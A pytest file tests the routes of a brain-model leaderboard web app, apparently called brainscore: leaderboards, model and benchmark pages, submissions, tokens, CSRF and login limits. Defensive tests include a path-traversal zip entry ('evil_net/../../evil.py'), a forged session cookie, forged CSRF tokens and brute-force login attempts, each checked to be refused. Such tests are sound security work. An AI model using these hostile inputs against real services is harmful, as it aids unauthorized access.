"""Every route of the website through FastAPI's TestClient (httpx): pages, JSON, auth, CSRF, owners."""
from __future__ import annotations

import re

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from brainscore.metrics.score import Score
from brainscore.results import record
from brainscore.scoring.outcome import Outcome
from brainscore.web import create_app
from brainscore.leaderboard.aggregate import leaderboard_records
from brainscore.web.queue import SubmissionTask
from web_helpers import BENCHMARK, EXAMPLE_PLUGIN as EXAMPLE, add_scored_model, csrf, plugin_zip, traversal_zip
from web_helpers import register as user


@pytest.fixture
def app(tmp_path):
    app = create_app(db_url=f"sqlite:///{tmp_path / 'results.sqlite'}", root=tmp_path / "submissions",
                     start_worker=False)
    add_scored_model(app.state.store, "pub-net", 0.25)
    add_scored_model(app.state.store, "secret-net", 0.75, public=False)
    return app


def queued_task(app, owner="alice", results=None) -> str:
    """A failed submission task of ``owner``; its public key."""
    with Session(app.state.engine) as session:
        task = SubmissionTask(owner=owner, package="my_tiny_net", models=["secret-net"], benchmarks=[BENCHMARK],
                  status="failed", results=results or {f"secret-net|{BENCHMARK}": {"status": "failed", "failure": "boom"}},
                  log="the log\nTraceback: boom\n", folder="/nonexistent")
        session.add(task)
        session.commit()
        return task.key


def test_leaderboard_shows_public_models_only_to_others(app):
    anonymous, bob, alice = TestClient(app), user(app, "bob"), user(app, "alice")
    for client in (anonymous, bob):
        page = client.get("/").text
        assert 'data-model="pub-net"' in page and "secret-net" not in page
    page = alice.get("/").text
    assert 'data-model="pub-net"' in page and 'data-model="secret-net"' in page
    # a column's ancestors are on its header only, a cell's title is its value and status (issue 36: 907 kB of
    # HTML per 100 rows, most of it these two attributes repeated in every cell)
    assert re.search(rf'<th [^>]*data-node="{re.escape(BENCHMARK)}" data-ancestors="average_vision neural_vision V4"',
                     page)
    assert re.search(rf'<td class="score c\d+ leaf" data-node="{re.escape(BENCHMARK)}" data-score="0.250000" '
                     r'data-state="done" title="0.2500">0.250</td>', page)
    assert "data-ancestors" not in page[page.index('<tbody id="rows"'):]


def test_leaderboard_sort_and_filter(app):
    alice = user(app, "alice")
    page = alice.get("/", params={"sort": BENCHMARK, "desc": 1}).text
    assert page.index('data-model="secret-net"') < page.index('data-model="pub-net"')
    page = alice.get("/", params={"sort": BENCHMARK, "desc": 0}).text
    assert page.index('data-model="pub-net"') < page.index('data-model="secret-net"')
    page = alice.get("/", params={"q": "SECRET"}).text
    assert 'data-model="secret-net"' in page and 'data-model="pub-net"' not in page


def test_api_leaderboard_is_the_leaderboard_json_without_private_models(app):
    body = TestClient(app).get("/api/leaderboard").json()
    assert body == [r for r in leaderboard_records(app.state.store) if r["model"] == "pub-net"]
    (row,) = body
    assert row["scores"][BENCHMARK] == pytest.approx(0.25)
    assert row["scores"]["V4"] == pytest.approx(0.25)
    assert row["missing"]["V4"] == 0 and row["missing"]["IT"] == 2


def test_model_page_and_json_respect_privacy(app):
    anonymous, bob, alice = TestClient(app), user(app, "bob"), user(app, "alice")
    page = anonymous.get("/models/pub-net")
    assert page.status_code == 200 and "0.2500" in page.text and "0.2000" in page.text  # score, raw
    assert anonymous.get("/api/models/pub-net").json()["scores"][0]["ceiling"] == pytest.approx(0.8)
    for client in (anonymous, bob):
        assert client.get("/models/secret-net").status_code == 404
        assert client.get("/api/models/secret-net").status_code == 404
    assert alice.get("/models/secret-net").status_code == 200
    assert anonymous.get("/models/no-such-net").status_code == 404


def test_benchmark_page_ranking_and_plot(app):
    anonymous, alice = TestClient(app), user(app, "alice")
    body = anonymous.get(f"/api/benchmarks/{BENCHMARK}").json()
    assert [r["model"] for r in body["ranking"]] == ["pub-net"]
    assert body["parent"] == "V4" and body["ancestors"] == ["V4", "neural_vision", "average_vision"]
    assert body["version"] == 1 and "cowley2026" in body["bibtex"] and body["ceiling"] == pytest.approx(0.8)
    assert [r["model"] for r in alice.get(f"/api/benchmarks/{BENCHMARK}").json()["ranking"]] == ["secret-net", "pub-net"]
    page = anonymous.get(f"/benchmarks/{BENCHMARK}")
    assert page.status_code == 200 and "@article{cowley2026compact" in page.text
    plot = anonymous.get(f"/plots/benchmarks/{BENCHMARK}.svg")
    assert plot.headers["content-type"] == "image/svg+xml" and b"<svg" in plot.content
    assert anonymous.get("/benchmarks/NoSuch2000-x").status_code == 404
    assert BENCHMARK in anonymous.get("/api/benchmarks").json()


def test_submission_api_needs_auth(app):
    anonymous = TestClient(app)
    files = {"file": ("p.zip", plugin_zip())}
    refused = anonymous.post("/api/submissions", files=files)  # neither a session nor an API token: log in first
    assert refused.status_code == 401 and "send an API token" in refused.json()["detail"]
    assert anonymous.post("/api/submissions", files=files,
                          headers={"Authorization": "Bearer wrong"}).status_code == 401
    assert anonymous.get("/api/submissions/1").status_code == 401
    assert anonymous.get("/api/submissions/1", headers={"Authorization": "Bearer wrong"}).status_code == 401


def test_submission_by_token_and_by_session_with_csrf(app):
    alice = user(app, "alice")
    token = re.search(r'id="token">([^<]+)<', alice.post("/account/tokens", data={"csrf_token": csrf(alice, "/account")}).text).group(1)
    response = TestClient(app).post("/api/submissions", files={"file": ("p.zip", plugin_zip())},
                                    data={"benchmarks": BENCHMARK}, headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 201, response.text
    body = response.json()
    assert body["status"] == "queued" and body["place"] == 1 and body["models"] == ["my-tiny-net"]
    assert body["benchmarks"] == [BENCHMARK] and body["requirements"] == ["torch"]
    assert app.state.store.model("my-tiny-net").owner == "alice"
    # a browser session must send its CSRF token with an API POST
    files = {"file": ("p.zip", plugin_zip(identifier="other-net", package="other_net"))}
    assert alice.post("/api/submissions", files=files).status_code == 403
    second = alice.post("/api/submissions", files=files, headers={"X-CSRF-Token": csrf(alice, "/submit")})
    assert second.status_code == 201 and second.json()["place"] == 2
    assert alice.get(f"/api/submissions/{body['id']}").json()["log"].startswith(f"submission {body['id']} by alice")


def test_rejections_name_their_reason(app):
    alice = user(app, "alice")
    response = alice.post("/api/submissions", files={"file": ("evil.zip", traversal_zip())},
                          headers={"X-CSRF-Token": csrf(alice, "/submit")})
    assert response.status_code == 400
    assert response.json()["problems"] == [
        "'evil_net/../../evil.py' contains '..' (path traversal); paths must stay inside the plugin folder"]
    page = alice.post("/submit", files={"file": ("evil.zip", traversal_zip())}, data={"csrf_token": csrf(alice, "/submit")})
    assert page.status_code == 400 and "path traversal" in page.text
    bob = user(app, "bob")  # another owner's identifier
    taken = bob.post("/api/submissions", files={"file": ("p.zip", plugin_zip(identifier="pub-net"))},
                     headers={"X-CSRF-Token": csrf(bob, "/submit")})
    assert taken.json()["problems"] == ["the identifier 'pub-net' belongs to another user's model; choose another"]
    unknown = alice.post("/api/submissions", files={"file": ("p.zip", plugin_zip())}, data={"benchmarks": "Nope-x"},
                         headers={"X-CSRF-Token": csrf(alice, "/submit")})
    assert unknown.status_code == 400 and "unknown benchmark 'Nope-x'" in unknown.json()["problems"][0]


def test_a_built_in_identifier_is_refused_unless_the_submitter_owns_that_model(app):
    alice, bob = user(app, "alice"), user(app, "bob")
    files = {"file": ("p.zip", plugin_zip(identifier="pixels", package="pixels_net"))}
    refused = bob.post("/api/submissions", files=files, headers={"X-CSRF-Token": csrf(bob, "/submit")})
    assert refused.status_code == 400
    assert refused.json()["problems"] == ["the identifier 'pixels' is a built-in model; choose another"]
    app.state.store.add_model("pixels", owner="alice")  # a user's model row under a registered identifier
    assert bob.post("/api/submissions", files=files, headers={"X-CSRF-Token": csrf(bob, "/submit")}).json()[
        "problems"] == ["the identifier 'pixels' belongs to another user's model; choose another"]
    accepted = alice.post("/api/submissions", files=files, data={"benchmarks": BENCHMARK},
                          headers={"X-CSRF-Token": csrf(alice, "/submit")})
    assert accepted.status_code == 201 and accepted.json()["models"] == ["pixels"]


def test_form_upload_redirects_to_the_status_page(app):
    alice = user(app, "alice")
    response = alice.post("/submit", files={"file": ("p.zip", plugin_zip())},
                          data={"csrf_token": csrf(alice, "/submit"), "visibility": "private", "benchmarks": BENCHMARK},
                          follow_redirects=False)
    assert response.status_code == 303
    page = alice.get(response.headers["location"])
    assert "place 1 in the queue" in page.text and "my-tiny-net" in page.text
    assert app.state.store.model("my-tiny-net").public is False
    assert 'data-model="my-tiny-net"' not in TestClient(app).get("/").text


def test_submission_status_and_rerun_are_owner_only(app):
    alice, bob = user(app, "alice"), user(app, "bob")
    task_id = queued_task(app)
    assert bob.get(f"/api/submissions/{task_id}").status_code == 404
    assert bob.get(f"/submissions/{task_id}").status_code == 404
    assert bob.post(f"/submissions/{task_id}/rerun", data={"benchmark": BENCHMARK, "csrf_token": csrf(bob)}).status_code == 404
    assert alice.get(f"/submissions/{task_id}").text.count("Traceback: boom") == 1
    assert alice.post(f"/submissions/{task_id}/rerun", data={"benchmark": BENCHMARK}).status_code == 403  # no CSRF
    response = alice.post(f"/submissions/{task_id}/rerun", data={"benchmark": BENCHMARK, "csrf_token": csrf(alice)},
                          follow_redirects=False)
    assert response.status_code == 303
    new = alice.get(response.headers["location"].replace("/submissions/", "/api/submissions/")).json()
    assert new["status"] == "queued" and new["rerun_of"] == task_id and new["benchmarks"] == [BENCHMARK]
    done = queued_task(app, results={f"secret-net|{BENCHMARK}": {"status": "done", "score": 0.5}})
    assert alice.post(f"/api/submissions/{done}/rerun", data={"benchmark": BENCHMARK},
                      headers={"X-CSRF-Token": csrf(alice)}).status_code == 400


def test_forms_without_csrf_are_refused(app):
    client = TestClient(app)
    client.get("/login")
    assert client.post("/register", data={"username": "eve", "password": "password123"}).status_code == 403
    assert client.post("/login", data={"username": "eve", "password": "password123"}).status_code == 403
    assert client.post("/login", data={"username": "eve", "password": "x", "csrf_token": "forged"}).status_code == 403
    alice = user(app, "alice")
    assert alice.post("/logout").status_code == 403
    assert alice.post("/account/tokens").status_code == 403


def test_login_logout_and_rate_limit(app):
    user(app, "alice")
    client = TestClient(app)
    wrong = {"username": "alice", "password": "wrong password"}
    for _ in range(5):
        assert client.post("/login", data={**wrong, "csrf_token": csrf(client)}).status_code == 400
    locked = client.post("/login", data={"username": "alice", "password": "correct horse", "csrf_token": csrf(client)})
    assert locked.status_code == 429 and "too many failed log-ins" in locked.text
    other = TestClient(app, client=("10.0.0.2", 1234))
    assert other.post("/login", data={"username": "alice", "password": "correct horse",
                                      "csrf_token": csrf(other)}).status_code == 429  # per user name too


def test_session_cookie_is_signed_httponly_samesite(app):
    client = TestClient(app)
    client.get("/login")
    response = client.post("/register", data={"username": "alice", "password": "correct horse",
                                              "email": "alice@example.org", "csrf_token": csrf(client)},
                           follow_redirects=False)
    cookie = response.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=lax" in cookie
    assert client.get("/account").status_code == 200
    client.post("/logout", data={"csrf_token": csrf(client, "/account")})
    assert client.get("/account", follow_redirects=False).status_code == 303
    forged = TestClient(app, cookies={"brainscore_session": "eyJ1c2VyX2lkIjogMX0=.forged.sig"})
    assert forged.get("/account", follow_redirects=False).status_code == 303


def test_layer_selection_curve_of_a_builtin_model(app):
    client = TestClient(app)
    body = client.get("/api/models/efficientnet-lite0").json()
    curve = body["layer_selection"]["V4"]
    assert curve["layer"] == "_blocks.11" and max(curve["scores"], key=curve["scores"].get) == "_blocks.11"
    plot = client.get("/plots/models/efficientnet-lite0/layers/V4.svg")
    assert plot.status_code == 200 and b"_blocks.11" in plot.content
    assert client.get("/plots/models/efficientnet-lite0/layers/V1.svg").status_code == 404
    assert client.get("/plots/models/secret-net/layers/V4.svg").status_code == 404  # private


def test_registration_errors_say_what_is_wrong(app):
    client = TestClient(app)
    mail = {"email": "al@example.org"}
    short = client.post("/register", data={"username": "al", "password": "correct horse", "csrf_token": csrf(client),
                                           **mail})
    assert short.status_code == 400 and "3 to 40 characters" in short.text
    weak = client.post("/register", data={"username": "alice", "password": "short", "csrf_token": csrf(client), **mail})
    assert weak.status_code == 400 and "at least 8 characters" in weak.text
    user(app, "alice")
    taken = client.post("/register", data={"username": "alice", "password": "correct horse", "csrf_token": csrf(client),
                                           **mail})
    assert taken.status_code == 400 and "is taken" in taken.text
    nomail = client.post("/register", data={"username": "carol", "password": "correct horse",
                                            "csrf_token": csrf(client)})
    assert nomail.status_code == 400 and "give your e-mail address" in nomail.text
    bad = client.post("/register", data={"username": "carol", "password": "correct horse", "email": "carol@",
                                         "csrf_token": csrf(client)})
    assert bad.status_code == 400 and "is not an e-mail address" in bad.text
    same = client.post("/register", data={"username": "carol", "password": "correct horse",
                                          "email": "ALICE@Example.org", "csrf_token": csrf(client)})
    assert same.status_code == 400 and "an account with the address alice@example.org exists" in same.text


def test_api_leaderboard_equals_the_cli_json_for_public_models(app, capsys):
    import json

    from brainscore.cli import main

    app.state.store.add_model("secret-net", owner="alice", public=True)  # everything public: the same JSON
    assert main(["leaderboard", "--format", "json", "--db", app.state.store.url]) == 0
    expected = json.loads(capsys.readouterr().out)
    assert TestClient(app).get("/api/leaderboard").json() == expected
    assert {r["model"] for r in expected} == {"pub-net", "secret-net"}


def test_layer_selection_curve_recorded_with_a_score(app):
    """A model whose layer was chosen automatically: the per-layer selection scores recorded in its score's
    provenance give the model page its plot, with the committed layer marked."""
    curve = [["1", 0.2104], ["3", 0.2396], ["6", 0.2965]]
    provenance = {"model": {"identifier": "auto-net", "layers": {"V4": "6"}},
                  "layer_selection": {"V4": {"layer": "6", "scores": curve}}}
    record(Outcome.from_score(Score.of(0.155, error=0.01, raw=0.12, ceiling=0.8, model_identifier="auto-net",
                                       benchmark_identifier=BENCHMARK, layers={"V4": "6"}, provenance=provenance)),
           app.state.store)
    client = TestClient(app)
    selection = client.get("/api/models/auto-net").json()["layer_selection"]
    assert selection == {"V4": {"layer": "6", "scores": {"1": 0.2104, "3": 0.2396, "6": 0.2965},
                                "source": f"recorded with its score on {BENCHMARK}"}}
    page = client.get("/models/auto-net").text
    assert 'src="/plots/models/auto-net/layers/V4.svg"' in page
    plot = client.get("/plots/models/auto-net/layers/V4.svg")
    assert plot.status_code == 200 and plot.headers["content-type"] == "image/svg+xml"
    assert b"committed: 6" in plot.content
    assert client.get("/plots/models/pub-net/layers/V4.svg").status_code == 404  # its layer was given, not chosen


def test_rule_committed_scores_are_marked_filterable_and_tabled(app):
    """A score answered with a layer the layer rule committed carries a † in the leaderboard (leaf and parents,
    with the legend), can be filtered out, and the model page's commitment table says how each layer was chosen."""
    rule = {"region": "IT", "layer": "layer4.0", "method": "rule", "rule": "relative-depth-median-v1",
            "relative_depth": 0.8095, "maps": 368, "index": 7, "n_candidates": 10, "candidates": "declared"}
    selected = {"region": "V4", "layer": "layer2.1", "method": "selection", "benchmarks": ["Sel.a", "Sel.b"]}
    store = app.state.store
    for benchmark, commitment in (("Kriegeskorte2008.IT-rdm", rule), (BENCHMARK, selected)):
        record(Outcome.from_score(Score.of(0.3, error=0.01, raw=0.2, ceiling=0.8, model_identifier="rule-net",
                                           benchmark_identifier=benchmark, commitment=commitment,
                                           layers={commitment["region"]: commitment["layer"]},
                                           provenance={"model": {"identifier": "rule-net", "commitment": commitment}})),
               store)
    client = TestClient(app)
    assert Outcome.from_score(Score.of(0.3, model_identifier="m", benchmark_identifier=BENCHMARK,
                                       commitment=rule)).summary()["method"] == "rule"
    (row,) = [r for r in client.get("/api/leaderboard").json() if r["model"] == "rule-net"]
    assert row["rule"]["Kriegeskorte2008.IT-rdm"] == 1 and row["rule"][BENCHMARK] == 0
    assert row["rule"]["IT"] == 1 and row["rule"]["V4"] == 0 and row["rule"]["average_vision"] == 1
    page = client.get("/").text
    assert 'id="rule-legend"' in page
    rule_net = page[page.index('data-model="rule-net"'):]
    rule_net = rule_net[:rule_net.index("</tr>")]
    assert re.search(r'data-node="Kriegeskorte2008.IT-rdm"[^>]*title="\d\.\d{4}; layer committed by the rule"', rule_net)
    assert rule_net.count('class="rule-mark"') == 4  # the leaf, and IT, neural_vision, average_vision counting it
    assert rule_net.count('<span class="rule-mark" data-rule="1">†1</span>') == 3
    pub_net = page[page.index('data-model="pub-net"'):]
    assert 'class="rule-mark"' not in pub_net[:pub_net.index("</tr>")]
    filtered = client.get("/", params={"norule": 1}).text
    assert 'data-model="rule-net"' not in filtered and 'data-model="pub-net"' in filtered
    model = client.get("/api/models/rule-net").json()["commitments"]
    assert model["IT"]["method"] == "rule" and model["IT"]["layer"] == "layer4.0"
    assert model["IT"]["how"].startswith("rule relative-depth-median-v1: relative depth 0.809 -> candidate 8 of 10")
    assert model["V4"] == {"layer": "layer2.1", "method": "selection", "how": "selected on 2 benchmarks (Sel.a, Sel.b)",
                           "benchmarks": [BENCHMARK]}
    html = client.get("/models/rule-net").text
    assert '<tr data-region="IT" data-method="rule">' in html and '<tr data-region="V4" data-method="selection">' in html


def test_leaderboard_benchmark_columns_link_to_their_pages(app):
    """Issue 25 #8: a benchmark's column header links to its page (the link was hidden by the style sheet)."""
    page = TestClient(app).get("/").text
    assert f'<a class="name" href="/benchmarks/{BENCHMARK}"' in page
    css = TestClient(app).get("/static/style.css").text
    assert ".info { display: none" not in css and "a.name { display: none" not in css
    assert f'href="/?sort={BENCHMARK}&desc=1"' in page  # sorting has its own link


def test_selection_only_and_misspelt_benchmarks_are_refused_with_the_closest_names(app):
    """Issue 25 #9 and #14: a layer-selection-only benchmark was accepted (and shown with ceiling 1.0000); a typo
    got no closest-name suggestion."""
    alice = user(app, "alice")
    headers = {"X-CSRF-Token": csrf(alice, "/submit")}
    selection = alice.post("/api/submissions", files={"file": ("p.zip", plugin_zip())},
                           data={"benchmarks": "Cowley2026.190923.V4-pls"}, headers=headers)
    assert selection.status_code == 400
    assert selection.json()["problems"] == [
        "'Cowley2026.190923.V4-pls' serves layer selection only (of V4) and is not on the leaderboard; choose "
        "leaderboard benchmarks (GET /api/benchmarks lists the 24)"]
    typo = alice.post("/api/submissions", files={"file": ("p.zip", plugin_zip())},
                      data={"benchmarks": "Cowley2026.210325.V4-pl"}, headers=headers)
    assert typo.json()["problems"] == ["unknown benchmark 'Cowley2026.210325.V4-pl'; did you mean "
                                       "'Cowley2026.210325.V4-pls'? (GET /api/benchmarks lists the 24)"]
    form = alice.get("/submit").text
    assert "all 24 leaderboard benchmarks" in form and "Cowley2026.190923.V4-pls" not in form


def test_wrong_passwords_of_one_user_do_not_lock_out_others_at_the_same_address(app):
    """Issue 25 #10: after 5 wrong passwords for alice from one address, bob (right password, same address) got 429."""
    user(app, "alice"), user(app, "bob")
    client = TestClient(app)
    for _ in range(5):
        assert client.post("/login", data={"username": "alice", "password": "wrong password",
                                           "csrf_token": csrf(client)}).status_code == 400
    bob = client.post("/login", data={"username": "bob", "password": "correct horse", "csrf_token": csrf(client)},
                      follow_redirects=False)
    assert bob.status_code == 303
    assert client.post("/login", data={"username": "alice", "password": "correct horse",
                                       "csrf_token": csrf(client)}).status_code == 429


def test_one_address_guessing_across_many_names_is_limited(app):
    from brainscore.web.accounts import MAX_ADDRESS_FAILURES

    user(app, "alice")
    client = TestClient(app)
    for i in range(MAX_ADDRESS_FAILURES):
        client.post("/login", data={"username": f"name{i}", "password": "wrong", "csrf_token": csrf(client)})
    assert client.post("/login", data={"username": "alice", "password": "correct horse",
                                       "csrf_token": csrf(client)}).status_code == 429


def test_a_404_page_has_the_site_header(app):
    """Issue 25 #15: the 404 page was a bare page without the site's header and navigation."""
    page = TestClient(app).get("/models/no-such-net", headers={"accept": "text/html"})
    assert page.status_code == 404
    assert '<a class="brand" href="/">brainscore</a>' in page.text and "no model &#39;no-such-net&#39;" in page.text
    assert TestClient(app).get("/api/models/no-such-net").json() == {"detail": "no model 'no-such-net'"}


def test_tokens_are_listed_and_revocable(app):
    """Issue 25 #15: the account page could neither list nor revoke API tokens."""
    alice = user(app, "alice")
    page = alice.post("/account/tokens", data={"csrf_token": csrf(alice, "/account")}).text
    token = re.search(r'id="token">([^<]+)<', page).group(1)
    listed = re.findall(r'<tr data-token="(\d+)"><td><code>sha256 ([0-9a-f]{12})…', alice.get("/account").text)
    import hashlib

    assert [sha for _, sha in listed] == [hashlib.sha256(token.encode()).hexdigest()[:12]]
    bearer = {"Authorization": f"Bearer {token}"}
    assert TestClient(app).get("/api/submissions/999", headers=bearer).status_code == 404  # the token works
    bob = user(app, "bob")
    assert bob.post(f"/account/tokens/{listed[0][0]}/revoke", data={"csrf_token": csrf(bob, "/account")}).status_code == 404
    assert alice.post(f"/account/tokens/{listed[0][0]}/revoke", data={}).status_code == 403  # no CSRF
    revoked = alice.post(f"/account/tokens/{listed[0][0]}/revoke", data={"csrf_token": csrf(alice, "/account")},
                         follow_redirects=False)
    assert revoked.status_code == 303
    assert TestClient(app).get("/api/submissions/999", headers=bearer).status_code == 401
    assert 'data-token=' not in alice.get("/account").text


def test_benchmark_page_says_metric_and_ceiling_in_words(app):
    """Issue 25 #15: the metric was shown as a Python repr and the ceiling as a code location."""
    page = TestClient(app).get(f"/benchmarks/{BENCHMARK}").text
    assert ("<b>CrossRegressedCorrelation</b>: Cross-validated regression from model to data, scored by per-neuroid "
            "Pearson r.") in page
    assert "Internal consistency over even/odd repetition halves (repetition % 2), as the reference." in page
    assert "even_odd_ceiling:" not in page


def test_model_page_provenance_is_a_table_not_a_dump(app):
    """Issue 25 #15: the provenance was every score's whole JSON, thousands of pixels long."""
    provenance = {"code": {"brainscore": "0.1", "git_commit": "0123456789abcdef", "git_dirty": False},
                  "environment": {"python": "3.11.7", "numpy": "1.26.4", "device": "cpu"},
                  "benchmark": {"identifier": BENCHMARK, "version": 1, "data_files": {"a.nc": "ff" * 32}},
                  "duration_s": 12.34}
    record(Outcome.from_score(Score.of(0.3, error=0.01, raw=0.4, ceiling=0.8, model_identifier="prov-net",
                                       benchmark_identifier=BENCHMARK, provenance=provenance)), app.state.store)
    page = TestClient(app).get("/models/prov-net").text
    row = re.search(r'<table class="scores provenance" id="provenance">.*?</table>', page, re.S).group(0)
    cells = [re.sub(r"<[^>]+>", "", c).strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", row.split("<pre")[0], re.S)]
    assert cells[:7] == [BENCHMARK, "1", "0.1 0123456789", "cpu", "python 3.11.7, numpy 1.26.4", "1", "12.3 s"]
    assert 'class="provenance"' in row and "max-height" in TestClient(app).get("/static/style.css").text


def _more_scores(app):
    """A second public model with scores and bootstrap errors on two benchmarks."""
    store = app.state.store
    for model, values in (("pub-net", {"Mur2013-rdm": (0.30, 0.02)}),
                          ("other-net", {BENCHMARK: (0.45, 0.03), "Mur2013-rdm": (0.20, 0.01)})):
        for benchmark, (value, error) in values.items():
            score = Score.of(value, raw=value, ceiling=1.0, model_identifier=model, benchmark_identifier=benchmark)
            score.attrs["error"], score.attrs["ci95"] = error, (value - 2 * error, value + 2 * error)
            record(Outcome.from_score(score), store)


def test_leaderboard_view_exports_as_csv_json_and_bibtex(app):
    """The view's state is in its URL, and its export holds the rows and columns shown, in that order."""
    _more_scores(app)
    client = TestClient(app)
    page = client.get("/", params={"sort": BENCHMARK, "desc": 0, "fold": "behavior_vision,engineering_vision"}).text
    assert 'href="/leaderboard.csv?sort=Cowley2026.210325.V4-pls&amp;desc=0&amp;fold=behavior_vision%2Cengineering_vision"' in page
    csv_text = client.get("/leaderboard.csv", params={"sort": BENCHMARK, "desc": 0, "fold": "behavior_vision,engineering_vision"}).text
    lines = csv_text.splitlines()
    header = lines[0].split(",")
    assert header[:3] == ["rank", "model", "average_vision"] and "neural_vision" in header
    assert "behavior_vision" in header and not any(h.startswith("Geirhos") for h in header)  # folded away
    assert [line.split(",")[1] for line in lines[1:]] == ["pub-net", "other-net"]  # ascending on the V4 benchmark
    column = header.index(BENCHMARK)
    assert lines[1].split(",")[column] == "0.250000" and lines[2].split(",")[column] == "0.450000"
    body = client.get("/leaderboard.json", params={"q": "other"}).json()
    assert [r["model"] for r in body["rows"]] == ["other-net"] and body["rows"][0]["Mur2013-rdm"] == pytest.approx(0.2)
    bib = client.get("/leaderboard.bib", params={"fold": "behavior_vision,engineering_vision"}).text
    assert bib.count("@article{cowley2026compact") == 1 and "geirhos" not in bib.lower()


def test_compare_two_models_with_differences_and_their_intervals(app):
    _more_scores(app)
    client = TestClient(app)
    body = client.get("/api/compare", params={"models": "pub-net,other-net"}).json()
    rows = {r["node"]: r for r in body["rows"]}
    mur = rows["Mur2013-rdm"]
    assert mur["scores"] == [pytest.approx(0.30), pytest.approx(0.20)]
    assert mur["ci95"] == [[pytest.approx(0.26), pytest.approx(0.34)], [pytest.approx(0.18), pytest.approx(0.22)]]
    half = 1.96 * (0.02 ** 2 + 0.01 ** 2) ** 0.5
    assert mur["differences"][0]["value"] == pytest.approx(-0.10)
    assert mur["differences"][0]["ci95"] == [pytest.approx(-0.10 - half), pytest.approx(-0.10 + half)]
    v4 = rows[BENCHMARK]["differences"][0]
    assert v4["value"] == pytest.approx(0.20) and v4["ci95"][1] - v4["ci95"][0] == pytest.approx(2 * 1.96 * 0.001 ** 0.5)
    assert rows["V4"]["differences"][0]["value"] == pytest.approx(0.20) and rows["V4"]["differences"][0]["ci95"] is None
    page = client.get("/compare", params={"models": "pub-net,other-net"}).text
    assert 'class="difference resolved">-0.100' in page
    assert 'id="guidance"' in client.get("/compare", params={"models": "pub-net"}).text  # issue 36: no 400 page
    assert client.get("/api/compare", params={"models": "pub-net,secret-net"}).status_code == 404  # private


def test_model_card_from_the_plugins_metadata_and_sources(app):
    """A model's page shows its card: the reference's metadata.yml fields, its submitter and date, and the BibTeX
    of its model.py (read, never run)."""
    metadata = ("models:\n  carded-net:\n    architecture: DCNN\n    model_family: tiny\n"
                "    total_parameter_count: 2496\n    training_dataset: none (untrained)\n"
                "    task_specialization: object classification\n    huggingface_link: https://huggingface.co/x/y\n")
    model = (EXAMPLE / "model.py").read_text() + '\nBIBTEX = """@misc{carded2026, title={A carded net}}"""\n'
    alice = user(app, "alice")
    zipped = plugin_zip(identifier="carded-net", package="carded_net",
                        extra={"carded_net/metadata.yml": metadata, "carded_net/model.py": model})
    response = alice.post("/api/submissions", files={"file": ("c.zip", zipped)}, data={"benchmarks": BENCHMARK},
                          headers={"X-CSRF-Token": csrf(alice, "/submit")})
    assert response.status_code == 201, response.text
    card = alice.get("/api/models/carded-net").json()["card"]
    assert card["rows"][:6] == [["architecture", "DCNN"], ["family", "tiny"], ["parameters", 2496],
                                ["training data", "none (untrained)"], ["task", "object classification"],
                                ["Hugging Face", "https://huggingface.co/x/y"]]
    assert ["submitted by", "alice"] in card["rows"] and card["bibtex"] == "@misc{carded2026, title={A carded net}}"
    page = alice.get("/models/carded-net").text
    assert "<th>parameters</th><td>2,496</td>" in page and "@misc{carded2026" in page
    builtin = TestClient(app).get("/api/models/efficientnet-lite0").json()["card"]
    assert builtin["rows"] == [["architecture", "DCNN"], ["family", "efficientnet"], ["parameters", 4652008],
                               ["training data", "ImageNet-1k"], ["task", "object classification"],
                               ["framework", "PyTorch"], ["submitted by", "built-in model"]] and "tan2019efficientnet" in builtin["bibtex"]


def test_benchmark_card_describes_the_study_and_experiment(app):
    body = TestClient(app).get(f"/api/benchmarks/{BENCHMARK}").json()
    assert body["description"] == "Cowley et al. 2026 V4 neural predictivity benchmarks."
    assert body["visual_degrees"] == 11.2 and body["number_of_trials"] == 14
    page = TestClient(app).get(f"/benchmarks/{BENCHMARK}").text
    assert "stimuli shown at 11.2° of visual angle · 14 trials per stimulus" in page


def test_model_page_shows_its_score_history_across_benchmark_versions(app):
    for version, value in ((1, 0.40), (2, 0.35)):
        record(Outcome.from_score(Score.of(value, error=0.01, raw=value, ceiling=0.8, model_identifier="hist-net",
                                           benchmark_identifier=BENCHMARK, benchmark_version=version)),
               app.state.store)
    body = TestClient(app).get("/api/models/hist-net").json()
    assert [(run["version"], run["score"]) for run in body["history"][BENCHMARK]] == [(1, 0.40), (2, 0.35)]
    assert TestClient(app).get("/api/models/pub-net").json()["history"] == {}  # scored once
    page = TestClient(app).get("/models/hist-net").text
    table = page[page.index('id="history"'):]
    table = table[:table.index("</table>")]
    assert table.count(f'<tr data-benchmark="{BENCHMARK}">') == 2 and table.index("0.4000") < table.index("0.3500")


def test_api_leaderboard_at_a_date(app):
    """``GET /api/leaderboard?at=YYYY-MM-DD`` and the page's date field: the leaderboard as it was that day."""
    for model, day in (("early-net", "2026-01-10"), ("later-net", "2026-03-01")):
        record(Outcome.from_score(Score.of(0.5, error=0.01, raw=0.4, ceiling=0.8, model_identifier=model,
                                           benchmark_identifier=BENCHMARK,
                                           provenance={"end": f"{day}T12:00:00+00:00"})), app.state.store)
    client = TestClient(app)
    assert [r["model"] for r in client.get("/api/leaderboard", params={"at": "2026-02-01"}).json()] == ["early-net"]
    assert {r["model"] for r in client.get("/api/leaderboard", params={"at": "2026-03-01"}).json()} == \
        {"early-net", "later-net"}
    assert client.get("/api/leaderboard", params={"at": "yesterday"}).status_code == 400
    page = client.get("/", params={"at": "2026-02-01"}).text
    assert 'data-model="early-net"' in page and 'data-model="later-net"' not in page
    assert '<input type="date" name="at" value="2026-02-01">' in page and "at=2026-02-01" in page


def test_api_tokens_never_start_with_a_dash_and_old_tokens_still_work(app, monkeypatch):
    """CI failure of 2026-11-25: ``secrets.token_urlsafe`` starts one token in 64 with ``-``, and
    ``brainscore submit --token TOKEN`` read it as an option ("expected one argument")."""
    import hashlib
    import secrets as secrets_module

    from brainscore.cli import build_parser
    from brainscore.web import accounts
    from sqlalchemy import select

    from brainscore.web.accounts import ApiToken, User

    monkeypatch.setattr(secrets_module, "token_urlsafe", lambda n: "-" + "A" * 42)  # the worst draw
    alice = user(app, "alice")
    token = re.search(r'id="token">([^<]+)<', alice.post("/account/tokens", data={"csrf_token": csrf(alice, "/account")}).text).group(1)
    assert token == "bst_-" + "A" * 42
    parsed = build_parser().parse_args(["submit", "folder", "--server", "http://127.0.0.1:1", "--token", token])
    assert parsed.token == token
